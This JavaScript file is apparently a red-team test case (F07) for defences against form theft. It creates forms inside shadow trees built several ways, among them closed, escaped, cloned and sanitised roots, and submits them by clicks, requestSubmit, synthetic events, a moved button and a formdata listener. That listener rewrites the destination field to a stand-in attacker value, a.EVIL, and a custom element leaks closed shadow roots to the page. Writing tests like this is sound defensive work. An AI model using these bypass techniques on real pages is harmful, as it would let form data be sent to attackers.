// F07: forms in shadow trees that markup made, or that were copied, whose events stay inside.
import { formTheft } from './thief.mjs';

export default formTheft({
  id: 'F07',
  title: 'forms in shadow trees of markup',
  source: 'red team, third round',

  attack: async (a, fill) => {
    await new Promise((resolve) => addEventListener('load', () => setTimeout(resolve, 50)));
    // Hands out where it stands, in a closed tree too.
    customElements.define(
      'test-inside',
      class extends HTMLElement {
        connectedCallback() {
          window.inside = this;
        }
      },
    );
    const tree = (rest) => `<div><template ${rest}><test-inside></test-inside></template></div>`;
    const place = () => document.body.appendChild(document.createElement('div'));
    const makers = {
      closed: () => place().setHTMLUnsafe(tree('shadowrootmode=closed')),
      open: () => place().setHTMLUnsafe(tree('shadowrootmode="open"')),
      escaped: () => place().setHTMLUnsafe(tree('shadowRootMode="&#99;losed"')),
      document: () => {
        const made = Document.parseHTMLUnsafe(tree('shadowrootmode=open'));
        document.body.append(document.adoptNode(made.body.firstChild));
      },
      copy: () => {
        const host = place();
        host.attachShadow({ mode: 'closed', clonable: true }).append(document.createElement('test-inside'));
        document.body.append(host.cloneNode(true));
      },
      copied: () => place().setHTMLUnsafe(tree('shadowrootmode="open" shadowrootclonable')),
      sanitised: () =>
        place().setHTML(tree('shadowrootmode=closed'), {
          sanitizer: { elements: ['div', 'template', 'test-inside'], attributes: ['shadowrootmode'] },
        }),
    };
    const ways = {
      click: (form) => form.querySelector('button').click(),
      request: (form) => form.requestSubmit(),
      event: (form) => form.querySelector('button').dispatchEvent(new MouseEvent('click')),
      // The button stands in the form once the click is on its way, and not when it is asked for.
      moved: (form) => {
        const button = form.querySelector('button');
        button.remove();
        button.addEventListener('click', () => form.append(button));
        button.dispatchEvent(new MouseEvent('click'));
      },
      data: (form) => {
        form.addEventListener('formdata', ({ formData }) => formData.set('to', a.EVIL));
        form.querySelector('input').value = '';
        form.submit();
      },
    };
    for (const how of Object.keys(makers)) {
      for (const way of Object.keys(ways)) {
        window.inside = null;
        try {
          makers[how]();
          const form = fill(document.createElement('form'), `${how}-${way}`);
          window.inside.parentNode.append(form);
          ways[way](form);
          await new Promise((resolve) => setTimeout(resolve, 60));
        } catch {
          // Refused, or unknown here.
        }
      }
    }
  },
});
